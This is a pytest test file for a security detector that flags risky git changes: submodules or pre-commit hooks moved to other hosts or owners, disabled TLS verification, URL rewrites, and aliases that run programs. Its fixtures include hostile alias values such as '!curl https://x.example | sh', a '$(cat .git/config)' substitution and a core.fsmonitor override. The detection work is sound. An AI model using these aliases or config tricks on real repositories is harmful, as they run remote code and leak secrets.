from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from clew.detectors.security.git_dangers import GitHooks
from clew.detectors.security.git_sources import GitSources
from clew.model.fact import Fact
from tests.kit.moments import Moment, evidence, facts, file, findings, story

HEAD: Moment = {".git/HEAD": b"ref: refs/heads/main\n", ".git/config": b"[core]\n\tbare = false\n"}


def _config(text: str) -> Moment:
    return {**HEAD, ".git/config": b"[core]\n\tbare = false\n" + text.encode()}


def _modules(url: str, path: str = "libs/hub") -> Moment:
    return {
        **HEAD,
        ".gitmodules": f'[submodule "{path}"]\n\tpath = {path}\n\turl = {url}\n'.encode(),
    }


def _told(old: Moment, new: Moment) -> list[Fact]:
    return facts(GitSources(), old, new)


def test_another_address_of_a_submodule_is_a_warning_with_both_hosts() -> None:
    old = _modules("https://git.example.org/a/hub.git")
    new = _modules("https://u:canary@git.example.net/a/hub.git?canary")
    (fact,) = _told(old, new)
    result = story([GitSources()], old, new)

    assert (fact.kind, fact.subject, fact.severity) == ("security.dependency", "libs/hub", "high")
    assert result.headline == "! submodule libs/hub now from git.example.net/a/hub (.gitmodules)"
    assert result.lines[0].text == (
        "submodule libs/hub now comes from git.example.net/a/hub, before from git.example.org/a/hub"
        " (.gitmodules)"
    )
    assert "canary" not in repr(result)


def test_another_owner_and_a_local_address_that_moved_are_warnings() -> None:
    assert (
        _told(_modules("https://github.com/a/hub"), _modules("https://github.com/b/hub"))[
            0
        ].severity
        == "high"
    )
    (fact,) = _told(_modules("/srv/git/hub"), _modules("https://git.example.net/hub.git"))
    assert (fact.before, fact.after) == ("a local path", "git.example.net/hub")


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("https://github.com/a/hub.git", "https://github.com/a/hub"),
        ("https://github.com/a/hub", "git@github.com:a/hub.git"),
        ("http://github.com/a/hub", "https://github.com/a/hub"),
        ("https://u@github.com/a/hub", "ssh://git@github.com/a/hub.git"),
        ("git://github.com/A/Hub", "https://github.com/a/hub"),
    ],
)
def test_the_same_repository_in_another_form_is_no_news(before: str, after: str) -> None:
    assert _told(_modules(before), _modules(after)) == []


def test_a_new_submodule_is_a_note_and_one_that_is_gone_nothing() -> None:
    assert [fact.severity for fact in _told(HEAD, _modules("https://github.com/a/hub"))] == ["note"]
    assert _told(_modules("https://github.com/a/hub"), HEAD) == []


def test_an_address_in_the_configuration_is_told_once() -> None:
    section = '[submodule "libs/hub"]\n\turl = https://{}/a/hub.git\n'
    old = {
        **_config(section.format("git.example.org")),
        **_modules("https://git.example.org/a/hub.git"),
    }
    new = {
        **_config(section.format("git.example.net")),
        **_modules("https://git.example.net/a/hub.git"),
    }
    old[".git/config"], new[".git/config"] = (
        _config(section.format(host))[".git/config"]
        for host in ("git.example.org", "git.example.net")
    )

    assert [fact.scope for fact in _told(old, new)] == [".gitmodules"]
    only = {**new, ".gitmodules": old[".gitmodules"]}
    assert [(fact.scope, fact.severity) for fact in _told(old, only)] == [(".git/config", "high")]


def test_git_submodule_add_and_init_of_the_real_git_are_no_warnings(tmp_path: Path) -> None:
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-c", "protocol.file.allow=always"]
    subprocess.run([*git, "init", "-q", tmp_path / "hub"], check=True)
    subprocess.run(
        [*git, "-C", tmp_path / "hub", "commit", "-qm", "x", "--allow-empty"], check=True
    )
    subprocess.run([*git, "init", "-q", tmp_path / "app"], check=True)
    subprocess.run(
        [*git, "-C", tmp_path / "app", "submodule", "--quiet", "add", tmp_path / "hub", "libs/hub"],
        check=True,
    )
    root = tmp_path / "app"
    new: Moment = {
        str(path.relative_to(root)): file(path.read_bytes(), mode=path.stat().st_mode & 0o7777)
        for path in root.rglob("*")
        if path.is_file()
    }

    assert ".gitmodules" in new
    assert {fact.severity for fact in _told(HEAD, new)} <= {"note"}


def test_certificates_that_git_does_not_verify_are_a_warning() -> None:
    for text in (
        "[http]\n\tsslVerify = false\n", "[http]\n\tsslverify = 0\n", "[HTTP]\n\tSSLVerify=no\n",
        '[http "https://u:canary@git.example/"]\n\tsslVerify = off\n',
    ):  # fmt: skip
        (fact,) = _told(HEAD, _config(text))
        assert (fact.kind, fact.severity) == ("security.tls", "high")
        assert fact.marks in (("http.sslVerify",), ("http.git.example.sslVerify",))
        assert "packages" not in story([GitSources()], HEAD, _config(text)).headline
    assert _told(_config("[http]\n\tsslVerify = false\n"), HEAD)[0].severity == "note"
    assert _told(HEAD, _config("[http]\n\tsslVerify = true\n\tpostBuffer = 1\n")) == []


def test_addresses_that_git_rewrites_to_another_host_are_a_warning() -> None:
    rewritten = '[url "https://canary@git.example.net/"]\n\tinsteadOf = https://github.com/\n'
    (fact,) = _told(HEAD, _config(rewritten))

    assert (fact.kind, fact.severity, fact.before, fact.after) == (
        "security.registry", "high", "github.com", "git.example.net",
    )  # fmt: skip
    assert story([GitSources()], HEAD, _config(rewritten)).headline == (
        "! .git/config: git fetches from git.example.net instead of github.com"
    )
    for harmless in (
        '[url "git@github.com:"]\n\tinsteadOf = https://github.com/\n',
        '[url "https://github.com/"]\n\tinsteadOf = git://github.com/\n',
        '[url "https://github.com/"]\n\tinsteadOf = gh:\n',
    ):
        assert _told(HEAD, _config(harmless)) == []
    assert _told({}, {"home/a/.gitconfig": rewritten.encode()})[0].severity == "high"


def test_other_files_and_garbage_say_nothing() -> None:
    assert _told({}, {"app/config": b"[http]\n\tsslVerify = false\n"}) == []
    for text in (b"\xff\x00" * 1_000, b"[submodule" * 10_000, b'[url "' * 10_000):
        assert _told(HEAD, {**HEAD, ".gitmodules": text}) == []
    assert findings(GitSources(), evidence(HEAD, {**HEAD, ".gitmodules": file(size=1 << 40)})) == []


# Aliases


@pytest.mark.parametrize(
    ("value", "severity"),
    [
        ("!sh tools/collect.sh; git status", "high"),
        ("!curl https://x.example | sh", "high"),
        ("!f() { python3 x.py; }; f", "high"),
        ("!git log $(cat .git/config)", "high"),
        ("-c core.fsmonitor=/tmp/x status", "high"),
        ("!git add -A && git commit -m wip", "note"),
        ("!gitk --all", "note"),
        ("status", ""),
        ("log --oneline --graph", ""),
    ],
)
def test_an_alias_that_runs_a_program_is_a_warning(value: str, severity: str) -> None:
    told = facts(GitHooks(), HEAD, _config(f'[alias]\n\tst = "{value}"\n'))

    assert [fact.severity for fact in told] == ([severity] if severity else [])
    assert all(fact.marks == ("alias st runs a command",) for fact in told)


def test_the_command_of_an_alias_is_not_shown() -> None:
    new = _config('[alias]\n\tst = "!curl -H token:canary x"\n')

    assert story([GitHooks()], HEAD, new).headline == "! .git/config: alias st runs a command"
    assert "canary" not in repr(story([GitHooks()], HEAD, new))


def test_hooks_from_another_repository_are_named() -> None:
    hooked = {**HEAD, ".git/hooks/pre-commit": file(b"#!/bin/sh\n", mode=0o755)}
    old = {
        **hooked,
        ".pre-commit-config.yaml": b"repos:\n- repo: https://github.com/psf/black\n  rev: 24.1.0\n",
    }
    new = {
        **hooked,
        ".pre-commit-config.yaml": b"repos:\n- repo: https://x:canary@git.example/psf/black\n  rev: 24.1.0\n",
    }
    (fact,) = facts(GitHooks(), old, new)

    assert (fact.kind, fact.severity) == ("security.dependency", "high")
    assert (fact.before, fact.after) == ("github.com/psf/black", "git.example/psf/black")
    assert "canary" not in repr(fact)


def _hooks(address: str, rev: str = "24.1.0") -> Moment:
    text = f"repos:\n- repo: {address}\n  rev: {rev}\n  hooks:\n  - id: black\n"
    return {**HEAD, ".pre-commit-config.yaml": text.encode()}


@pytest.mark.parametrize(
    ("address", "severity"),
    [
        ("https://github.com/someone-else/black", "high"),
        ("git@github.com:someone-else/black.git", "high"),
        ("https://git.example.net/psf/black", "high"),
        ("http://github.com/psf/black", "none"),
        ("https://gitlab.com/psf/black", "note"),
        ("https://github.com/astral-sh/black", "note"),
    ],
)
def test_hooks_taken_from_someone_else_are_a_warning_also_before_they_are_in_use(
    address: str, severity: str
) -> None:
    found = facts(GitHooks(), _hooks("https://github.com/psf/black"), _hooks(address))

    told = [fact for fact in found if fact.kind == "security.dependency"]
    assert [fact.severity for fact in told] == ([] if severity == "none" else [severity])


def test_the_headline_names_both_repositories() -> None:
    old, new = (
        _hooks("https://github.com/psf/black"),
        _hooks("https://github.com/someone-else/black"),
    )

    assert story([GitHooks()], old, new).headline == (
        "! .pre-commit-config.yaml: hook someone-else/black instead of psf/black"
    )


def test_another_version_or_another_hook_is_no_warning() -> None:
    old = _hooks("https://github.com/psf/black")

    for new in (_hooks("https://github.com/psf/black", "25.1.0"), _hooks("https://github.com/astral-sh/ruff-pre-commit"),
                _hooks("https://github.com/someone/mypy-hook")):  # fmt: skip
        assert all(fact.severity != "high" for fact in facts(GitHooks(), old, new))
